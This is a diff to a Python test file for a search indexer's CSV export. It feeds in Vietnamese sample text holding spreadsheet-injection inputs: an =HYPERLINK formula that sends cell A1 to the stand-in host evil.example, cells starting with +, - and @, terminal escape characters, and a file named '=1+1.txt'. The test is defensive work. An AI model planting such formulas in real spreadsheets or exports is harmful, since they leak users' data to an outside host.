@@ -12,15 +12,19 @@ import pytest
 
 from search.indexer import build_index
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây") công tác tuyên giáo cần kiểm tra.'
-ODD = 'Ký tự lạ trong công tác tuyên giáo: "ngoặc kép", \\gạch chéo\\, chuông\x07, thoát\x1b[31m, lùi\x08.'
+# Paragraphs shorter than a passage are packed together; this one makes each
+# hostile paragraph a passage of its own, so that passages start with them.
+FILLER = " Nội dung được các cơ quan chức năng kiểm tra, đối chiếu và báo cáo kịp thời." * 8
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây") công tác tuyên giáo cần kiểm tra.' + FILLER
+ODD = ('Ký tự lạ trong công tác tuyên giáo: "ngoặc kép", \\gạch chéo\\, chuông\x07, thoát\x1b[31m, lùi\x08.'
+       + FILLER)
 REPORT = "\n".join([
     "Báo cáo kiểm tra ô nhiễm ký tự",
     "Hà Nội, ngày 13 tháng 3 năm 2001",
     HYPERLINK,
-    "+84 912 345 678 là số điện thoại đường dây nóng công tác tuyên giáo.",
-    "-5% ngân sách công tác tuyên giáo năm nay bị cắt giảm.",
-    "@SUM(A1:A9) xuất hiện trong bảng tính công tác tuyên giáo.",
+    "+84 912 345 678 là số điện thoại đường dây nóng công tác tuyên giáo." + FILLER,
+    "-5% ngân sách công tác tuyên giáo năm nay bị cắt giảm." + FILLER,
+    "@SUM(A1:A9) xuất hiện trong bảng tính công tác tuyên giáo." + FILLER,
     ODD,
 ]) + "\n"
 DOC = "=1+1.txt"
@@ -58,7 +62,10 @@ def _hit(run, index_dir, text: str) -> dict:
 def _csv_line(hit: dict, apostrophe: str) -> str:
     """The CSV line a spreadsheet gets for the =HYPERLINK passage, written out by hand."""
     quoted = HYPERLINK.replace('"', '""')
-    snippet = quoted.replace(PHRASE, f"«{PHRASE}»")
+    # the snippet: the passage's first 360 characters (the hit is near its start),
+    # cut at a space, the phrase marked, an ellipsis for the rest
+    shown = HYPERLINK[:HYPERLINK.rindex(" ", 0, 360)]
+    snippet = shown.replace('"', '""').replace(PHRASE, f"«{PHRASE}»") + "…"
     start = HYPERLINK.index(PHRASE)
     return (f"{hit['rank']},{hit['score']},{apostrophe}{DOC},{hit['passage']},"
             f"Báo cáo kiểm tra ô nhiễm ký tự,2001-03-13,,,"
